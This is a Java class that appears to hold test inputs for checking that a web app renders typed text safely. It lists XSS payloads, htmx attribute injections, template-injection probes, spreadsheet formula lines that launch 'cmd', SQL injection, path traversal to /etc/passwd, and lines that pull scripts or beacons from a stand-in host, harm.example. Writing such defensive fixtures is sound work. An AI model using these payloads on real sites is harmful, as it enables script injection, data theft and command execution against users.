package app.intact.journey;

import java.util.List;

/// Texts that do harm where a page takes what was typed for something else than words.
final class HostileTexts {

    static final List<String> ALL = List.of(
            "<script>window.harmed=1</script>",
            "</textarea><script>window.harmed=1</script>",
            "</title></style></script><script src=//harm.example/x.js></script>",
            "<ScRiPt >fetch('http://harm.example/')</sCrIpT>",
            "<img src=x onerror=window.harmed=1>",
            "<img src=http://harm.example/pixel.gif>",
            "<svg onload=window.harmed=1>",
            "<svg><script>window.harmed=1</script></svg>",
            "<svg><animate onbegin=window.harmed=1 attributeName=x dur=1s>",
            "<body onload=window.harmed=1>",
            "<details open ontoggle=window.harmed=1>",
            "<input autofocus onfocus=window.harmed=1>",
            "<iframe src=javascript:parent.harmed=1></iframe>",
            "<iframe srcdoc=\"<script>parent.harmed=1</script>\"></iframe>",
            "<object data=http://harm.example/></object>",
            "<embed src=http://harm.example/>",
            "<link rel=stylesheet href=http://harm.example/x.css>",
            "<style>@import 'http://harm.example/x.css'; *{background:url(http://harm.example/)}</style>",
            "<meta http-equiv=refresh content=\"0;url=http://harm.example/\">",
            "<base href=http://harm.example/>",
            "<form action=http://harm.example/><button>Go on</button></form>",
            "<a href=javascript:window.harmed=1 autofocus>here</a>",
            "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>",
            "<noscript><p title=\"</noscript><img src=x onerror=window.harmed=1>\">",
            "\" onfocus=window.harmed=1 autofocus x=\"",
            "' onmouseover='window.harmed=1",
            "` onload=window.harmed=1 `",
            "javascript:window.harmed=1",
            "data:text/html,<script>window.harmed=1</script>",
            "<div hx-get=/harmed hx-trigger=load></div>",
            "<div data-hx-get=/harmed data-hx-trigger=load></div>",
            "<div hx-post=/leave hx-trigger=\"every 10ms\"></div>",
            "<div hx-on:click=window.harmed=1 hx-on::load=window.harmed=1></div>",
            "<div hx-trigger=\"load[window.harmed=1]\" hx-get=/harmed></div>",
            "<div hx-swap-oob=true id=main>gone</div>",
            "<template><script>window.harmed=1</script></template>",
            "${7*7} #{7*7} {{7*7}} <%= 7*7 %> @(7*7) $unsafe{7*7} !{7*7}",
            "@import(java.lang.Runtime) ${T(java.lang.Runtime).getRuntime()}",
            "{x} {0} %s %n {missing}",
            "&lt;b&gt; &amp; &#60;script&#62; &quot; &nbsp; &notanentity;",
            "\u202Etxet sdrawkcab\u202C \u2066isolated\u2069 \u200Fright",
            "before\u0000after \u0007bell \u001B[31mred",
            "W" + "o".repeat(3_000) + "rd",
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66 \uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08 e\u0301\u0301\u0301",
            "\u05D1\u05E8\u05D0\u05E9\u05D9\u05EA \u0627\u0644\u0639\u0631\u0628\u064A\u0629 \u4F60\u597D",
            "=HYPERLINK(\"http://harm.example/\",\"x\")",
            "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "[link](http://harm.example/) ![picture](http://harm.example/x.png)",
            "<http://harm.example/> http://harm.example/ **bold** # heading",
            "'; DROP TABLE cell; --",
            "../../etc/passwd %2e%2e%2f \\\\harm.example\\share");

    private HostileTexts() {}
}
